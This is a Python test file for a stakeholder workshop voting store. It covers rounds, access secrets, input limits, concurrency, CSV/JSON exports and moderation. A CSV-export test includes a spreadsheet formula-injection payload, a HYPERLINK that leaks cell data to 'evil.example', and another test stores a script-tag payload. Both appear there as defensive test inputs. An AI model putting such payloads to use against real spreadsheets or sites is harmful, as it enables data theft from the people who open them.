"""The workshop store against SQLite and PostgreSQL: rounds, submissions, access, limits, concurrency."""

import threading

import pytest

import igviz
from igviz.workshop import AccessDenied, WorkshopError, WorkshopStore, export_round, load_export, new_workshop
from igviz.workshop.store import COMMENT_MAX, PSEUDONYM_MAX, shared_store

DATASET = igviz.load_dataset()


@pytest.fixture
def workshop(store):
    return new_workshop(store, DATASET, "Reform options, IGF 2026")


def weights(**changes):
    values = {c: 5.0 for c in DATASET.default_framework.criterion_ids}
    values.update(changes)
    return values


def test_a_submission_is_kept_and_revised_in_place(store, workshop):
    code, secret = workshop.workshop.code, workshop.secret
    token = store.join(code.lower(), "civil_society", "Ada")  # codes are typed on phones: case does not matter
    before = store.revision(code)
    store.submit(token, weights(human_rights=10), "first thought")
    store.submit(token, weights(human_rights=2), "second thought")
    subs = store.submissions(code, secret)
    assert len(subs) == 1
    row = subs.iloc[0]
    assert (row["participant"], row["group"], row["comment"]) == ("P001", "civil_society", "second thought")
    assert row["weight.human_rights"] == 2 and row["revisions"] == 2
    assert "Ada" not in subs.to_string()  # anonymised: pseudonyms never leave the store
    assert store.revision(code) == before + 2
    me = store.participant(token)
    assert me.weights["human_rights"] == 2 and me.pseudonym == "Ada" and me.group == "civil_society"


def test_rounds_close_reopen_and_start_afresh(store, workshop):
    code, secret = workshop.workshop.code, workshop.secret
    token = store.join(code, "government", "Gov 1")
    store.submit(token, weights())
    store.close_round(code, secret)
    assert not store.workshop(code).accepting
    with pytest.raises(WorkshopError, match="round is closed"):
        store.submit(token, weights(effective=9))
    store.reopen_round(code, secret)
    store.submit(token, weights(effective=9))
    assert store.submissions(code, secret).iloc[0]["weight.effective"] == 9
    with pytest.raises(WorkshopError, match="still open"):  # the next round only once this one is closed
        store.open_round(code, secret)
    store.close_round(code, secret)
    assert store.open_round(code, secret) == 2
    assert store.participant(token).weights is None  # a new round starts empty
    assert len(store.submissions(code, secret)) == 0
    assert len(store.submissions(code, secret, round_number=1)) == 1
    assert [r.number for r in store.rounds(code)] == [1, 2]


def test_facilitator_actions_need_the_secret(store, workshop):
    code = workshop.workshop.code
    for action in (store.open_round, store.close_round, store.reopen_round, store.submissions, store.check_secret):
        with pytest.raises(AccessDenied, match="facilitator key"):
            action(code, "guess")
    with pytest.raises(AccessDenied):
        store.submissions(code, "")
    other = new_workshop(store, DATASET, "Another workshop")
    with pytest.raises(AccessDenied):  # one workshop's secret does not open another
        store.submissions(code, other.secret)


def test_an_organiser_key_guards_creating_workshops(store_url, monkeypatch):
    guarded = WorkshopStore(store_url, organiser_key="room-42")
    try:
        for wrong in ("", "room-43"):
            with pytest.raises(AccessDenied, match="organiser key"):
                new_workshop(guarded, DATASET, "Uninvited", organiser_key=wrong)
        created = new_workshop(guarded, DATASET, "Invited", organiser_key="room-42")
        assert guarded.workshop(created.workshop.code).title == "Invited"
    finally:
        guarded.dispose()
    # The server's store takes its key from the environment.
    monkeypatch.setenv("IGVIZ_ORGANISER_KEY", "from-env")
    monkeypatch.setattr("igviz.workshop.store._shared", {})
    assert shared_store(store_url).organiser_key == "from-env"
    shared_store(store_url).dispose()


def test_participants_act_only_through_their_own_token(store, workshop):
    with pytest.raises(AccessDenied, match="not valid"):
        store.submit("someone-elses", weights())
    with pytest.raises(AccessDenied):
        store.participant("")
    # What a participant can read about themselves carries no one else's weights.
    a = store.join(workshop.workshop.code, "civil_society", "A")
    b = store.join(workshop.workshop.code, "civil_society", "B")
    store.submit(a, weights(transparent=10))
    assert store.participant(b).weights is None


@pytest.mark.parametrize("bad, message", [
    ({"transparent": float("nan")}, "from 0 to 10"),
    ({"transparent": -1}, "from 0 to 10"),
    ({"transparent": 11}, "from 0 to 10"),
    ({"transparent": "lots"}, "must be a number"),
    ({"made_up": 3}, "unknown: made_up"),
])
def test_bad_weights_get_clear_messages(store, workshop, bad, message):
    token = store.join(workshop.workshop.code, "civil_society", "A")
    with pytest.raises(WorkshopError, match=message):
        store.submit(token, weights(**bad))
    with pytest.raises(WorkshopError, match="missing: transparent"):
        store.submit(token, {k: v for k, v in weights().items() if k != "transparent"})
    with pytest.raises(WorkshopError, match="All weights are zero"):
        store.submit(token, {k: 0 for k in weights()})
    assert len(store.submissions(workshop.workshop.code, workshop.secret)) == 0


def test_text_is_length_limited_and_kept_as_typed(store, workshop):
    code = workshop.workshop.code
    with pytest.raises(WorkshopError, match="at most 40"):
        store.join(code, "civil_society", "x" * (PSEUDONYM_MAX + 1))
    with pytest.raises(WorkshopError, match="empty"):
        store.join(code, "civil_society", "   ")
    token = store.join(code, "civil_society", "<b>Bold</b>")
    with pytest.raises(WorkshopError, match=f"at most {COMMENT_MAX}"):
        store.submit(token, weights(), "y" * (COMMENT_MAX + 1))
    store.submit(token, weights(), "<script>alert('x')</script> & more")
    assert store.submissions(code, workshop.secret).iloc[0]["comment"] == "<script>alert('x')</script> & more"


def test_bad_codes_and_groups(store, workshop):
    with pytest.raises(WorkshopError, match="no workshop with the code 'NOPE'"):
        store.join("NOPE", "civil_society", "A")
    with pytest.raises(WorkshopError, match="not a stakeholder group of this workshop"):
        store.join(workshop.workshop.code, "intergovernmental", "A")
    with pytest.raises(WorkshopError, match="Unknown proposal 'utopia'"):
        new_workshop(store, DATASET, "T", proposals=["utopia", "mipc"])


def test_flooding_is_refused(store_url, workshop):
    strict = WorkshopStore(store_url, min_seconds_between_submissions=60, max_participants=2)
    try:
        code = workshop.workshop.code
        token = strict.join(code, "civil_society", "A")
        strict.submit(token, weights())
        with pytest.raises(WorkshopError, match="please wait"):
            strict.submit(token, weights(effective=1))
        strict.join(code, "civil_society", "B")
        with pytest.raises(WorkshopError, match="full"):
            strict.join(code, "civil_society", "C")
    finally:
        strict.dispose()


def test_submissions_survive_a_new_store_on_the_same_database(store_url, workshop):
    first = WorkshopStore(store_url, min_seconds_between_submissions=0)
    token = first.join(workshop.workshop.code, "private_sector", "A")
    first.submit(token, weights(adaptable=8), "kept")
    first.dispose()
    second = WorkshopStore(store_url)  # as after a server restart
    try:
        assert second.submissions(workshop.workshop.code, workshop.secret).iloc[0]["comment"] == "kept"
    finally:
        second.dispose()


def test_concurrent_submissions_lose_nothing(store, workshop):
    code, secret = workshop.workshop.code, workshop.secret
    groups = ["civil_society", "government", "private_sector", "technical_academic"]
    errors, tokens = [], []

    def participant(i):
        try:
            token = store.join(code, groups[i % 4], f"P{i}")
            tokens.append(token)
            for revision in range(3):
                store.submit(token, weights(transparent=revision + 1, effective=i % 11), f"comment {i}")
        except Exception as exc:  # noqa: BLE001 - collected and reported below
            errors.append(repr(exc))

    before = store.revision(code)
    threads = [threading.Thread(target=participant, args=(i,)) for i in range(40)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert errors == []
    subs = store.submissions(code, secret)
    assert len(subs) == 40
    assert (subs["revisions"] == 3).all() and (subs["weight.transparent"] == 3).all()
    assert sorted(subs["comment"]) == sorted(f"comment {i}" for i in range(40))
    assert store.revision(code) == before + 120  # every submission was seen by the facilitator's poll

    # The same person pressing Submit from two tabs at once: one row, both revisions counted.
    token = tokens[0]
    twice = [threading.Thread(target=store.submit, args=(token, weights(expertise=k))) for k in (1, 2, 3, 4)]
    for t in twice:
        t.start()
    for t in twice:
        t.join()
    subs = store.submissions(code, secret)
    assert len(subs) == 40 and subs["revisions"].max() == 7


def test_export_round_trips_through_json_and_csv(store, workshop, tmp_path):
    code, secret = workshop.workshop.code, workshop.secret
    for i, g in enumerate(["civil_society", "government", "government"]):
        store.submit(store.join(code, g, f"name{i}"), weights(human_rights=2 + 3 * i), f"note {i}" if i else "")
    export = export_round(store, code, secret)
    for suffix in ("json", "csv"):
        path = export.save(tmp_path / f"round.{suffix}")
        assert "name0" not in path.read_text()
        back = load_export(path)
        assert back.framework == "best_bits" and back.round == 1
        assert list(back.submissions["participant"]) == ["P001", "P002", "P003"]
        assert list(back.submissions["weight.human_rights"]) == [2, 5, 8]
        theirs, ours = back.results(), export.results()
        assert list(theirs.equal_footing_ranking.index) == list(ours.equal_footing_ranking.index)


def test_a_csv_export_never_hands_a_spreadsheet_a_formula(store, workshop, tmp_path):
    import csv

    code, secret = workshop.workshop.code, workshop.secret
    comments = ['=HYPERLINK("http://evil.example/?leak="&A2,"Click")', "+1 agreed", "-- no", "@SUM(A1)",
                "\tTabbed", "'quoted already", "plain"]
    for i, comment in enumerate(comments):
        store.submit(store.join(code, "civil_society", f"n{i}"), weights(), comment)
    path = export_round(store, code, secret).save(tmp_path / "round.csv")
    with open(path, newline="", encoding="utf-8") as f:
        cells = [cell for row in csv.reader(f) for cell in row]
    # No cell a spreadsheet would evaluate (the number columns hold no negative values).
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    # Read back, every comment is exactly as stored (the store trims the tab's white space).
    assert sorted(load_export(path).submissions["comment"]) == sorted(store.submissions(code, secret)["comment"])
    assert "'quoted already" in list(load_export(path).submissions["comment"])


def test_exports_carry_the_results_and_open_in_a_spreadsheet_as_unicode(store, workshop, tmp_path):
    """Besides the submissions, the facilitator downloads what the room saw: both rankings, rough
    consensus per group, and the weights with the disagreement about them. Every CSV starts with a
    byte-order mark, so Excel reads it as UTF-8 rather than the legacy code page."""
    import csv
    import io

    code, secret = workshop.workshop.code, workshop.secret
    for i, g in enumerate(["civil_society", "government", "government", "private_sector"]):
        store.submit(store.join(code, g, f"name{i}"), weights(human_rights=1 + 3 * i), "=1+1 Société civile")
    export = export_round(store, code, secret)
    ours = export.results()
    for text in (export.to_csv(), export.results_csv(), export.weights_csv()):
        assert text.startswith("\ufeff")
        assert "name0" not in text and "=1+1" not in text.replace("'=1+1", "")
    results = list(csv.DictReader(io.StringIO(export.results_csv()[1:])))
    assert [r["proposal"] for r in results] == list(ours.equal_footing_ranking.index)
    assert [int(r["rank (equal footing)"]) for r in results] == list(range(1, len(results) + 1))
    head = {r["proposal"]: int(r["rank (head count)"]) for r in results}
    assert head == {p: int(k) for p, k in ours.headcount_ranking["rank"].items()}
    assert {r["rough consensus"] for r in results} <= {"rough consensus", "no consensus", "too few submissions"}
    assert "government support" in results[0] and "civil_society" in results[0]
    weights_rows = list(csv.DictReader(io.StringIO(export.weights_csv()[1:])))
    assert {r["criterion"] for r in weights_rows} == set(ours.criteria)
    shares = {r["criterion"]: float(r["weight % (equal footing)"]) for r in weights_rows}
    assert abs(sum(shares.values()) - 100) < 0.1
    assert float(weights_rows[0]["spread (points)"]) == max(float(r["spread (points)"]) for r in weights_rows)
    # The file written to disk reads back, mark and all.
    assert len(load_export(export.save(tmp_path / "round.csv")).submissions) == 4


# -- moderation (#18): lock joining, group caps, removals, hidden comments, the cap under concurrency ----

def test_the_facilitator_can_lock_joining(store, workshop):
    code, secret = workshop.workshop.code, workshop.secret
    inside = store.join(code, "civil_society", "Early")
    store.set_joining(code, secret, False)
    assert not store.workshop(code).joining_open
    with pytest.raises(WorkshopError, match="closed this workshop to new participants"):
        store.join(code, "civil_society", "Late")
    store.submit(inside, weights())  # those already in carry on
    with pytest.raises(AccessDenied):
        store.set_joining(code, "guess", True)
    store.set_joining(code, secret, True)
    store.join(code, "civil_society", "Later")


def test_stakeholder_groups_can_be_capped(store, workshop):
    code, secret = workshop.workshop.code, workshop.secret
    store.set_group_caps(code, secret, {"government": 2, "civil_society": None})
    assert store.workshop(code).group_caps == (("government", 2),)
    store.join(code, "government", "G1")
    store.join(code, "government", "G2")
    with pytest.raises(WorkshopError, match="'government' is full"):
        store.join(code, "government", "G3")
    for i in range(3):  # the other groups are not capped
        store.join(code, "civil_society", f"C{i}")
    with pytest.raises(WorkshopError, match="whole number"):
        store.set_group_caps(code, secret, {"government": -1})
    with pytest.raises(WorkshopError, match="not a stakeholder group"):
        store.set_group_caps(code, secret, {"made_up": 3})


def test_a_removed_participant_leaves_the_results_but_stays_in_the_log(store, workshop):
    code, secret = workshop.workshop.code, workshop.secret
    real = store.join(code, "civil_society", "Real")
    bot = store.join(code, "civil_society", "Bot")
    later = store.join(code, "government", "Later")
    store.submit(real, weights(transparent=1), "a real view")
    store.submit(bot, weights(transparent=10), "buy cheap pills")
    store.submit(later, weights())
    assert store.remove_participants(code, secret, ["P002"], reason="a script") == ["P002"]
    shown = store.submissions(code, secret)
    assert list(shown["participant"]) == ["P001", "P003"]  # numbers stay as they were
    assert "buy cheap pills" not in shown.to_string()
    export = export_round(store, code, secret)
    assert "buy cheap pills" not in export.to_csv() and "buy cheap pills" not in export.to_json()
    with pytest.raises(AccessDenied, match="removed"):
        store.submit(bot, weights())
    with pytest.raises(AccessDenied, match="removed"):
        store.participant(bot)
    audit = store.submissions(code, secret, moderated=True)
    assert audit.set_index("participant").loc["P002", "removed"]
    assert audit.set_index("participant").loc["P002", "comment"] == "buy cheap pills"
    log = store.moderation_log(code, secret)
    entry = log.iloc[-1]
    assert (entry["action"], entry["participant"]) == ("remove participant", "P002")
    assert entry["detail"]["reason"] == "a script"
    assert entry["detail"]["submissions"][0]["comment"] == "buy cheap pills"
    assert store.remove_participants(code, secret, ["P002"]) == []  # twice is once
    with pytest.raises(WorkshopError, match="no participant P009"):
        store.remove_participants(code, secret, ["P009"])
    people = store.participants(code, secret)
    assert list(people["removed"]) == [False, True, False] and "Bot" not in people.to_string()
    # A removed participant no longer counts towards the caps: their place is free again.
    strict = WorkshopStore(store.url, max_participants=3)
    try:
        strict.join(code, "private_sector", "Now there is room")
    finally:
        strict.dispose()


def test_a_hidden_comment_leaves_the_results_and_exports_but_stays_in_the_log(store, workshop):
    code, secret = workshop.workshop.code, workshop.secret
    token = store.join(code, "civil_society", "A")
    store.submit(token, weights(), "=insult")
    store.hide_comment(code, secret, "P001")
    shown = store.submissions(code, secret)
    assert shown.iloc[0]["comment"] == "" and shown.iloc[0]["weight.effective"] == 5  # the weights still count
    assert "insult" not in export_round(store, code, secret).to_csv()
    assert store.submissions(code, secret, moderated=True).iloc[0]["comment"] == "=insult"
    assert store.moderation_log(code, secret).iloc[-1]["detail"]["comment"] == "=insult"
    store.submit(token, weights(), "=insult")  # the same text again stays hidden
    assert store.submissions(code, secret).iloc[0]["comment"] == ""
    store.submit(token, weights(), "sorry, a real point")  # a new comment is shown
    assert store.submissions(code, secret).iloc[0]["comment"] == "sorry, a real point"
    other = store.join(code, "government", "B")
    store.submit(other, weights())
    with pytest.raises(WorkshopError, match="P002 has no comment"):
        store.hide_comment(code, secret, "P002")


def test_the_participant_cap_holds_when_many_join_at_once(store_url, workshop):
    # Without a lock, PostgreSQL let 505-507 into a workshop capped at 500: every join counted the
    # others before any had committed.
    cap, attempts = 10, 40
    capped = WorkshopStore(store_url, max_participants=cap)
    barrier = threading.Barrier(attempts)
    joined, refused, errors = [], [], []

    def join(i):
        barrier.wait()
        try:
            joined.append(capped.join(workshop.workshop.code, "civil_society", f"P{i}"))
        except WorkshopError as exc:
            (refused if "full" in str(exc) else errors).append(str(exc))
        except Exception as exc:  # noqa: BLE001 - reported below
            errors.append(repr(exc))

    try:
        threads = [threading.Thread(target=join, args=(i,)) for i in range(attempts)]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        assert errors == []
        assert len(joined) == cap and len(refused) == attempts - cap
        assert len(capped.participants(workshop.workshop.code, workshop.secret)) == cap
    finally:
        capped.dispose()
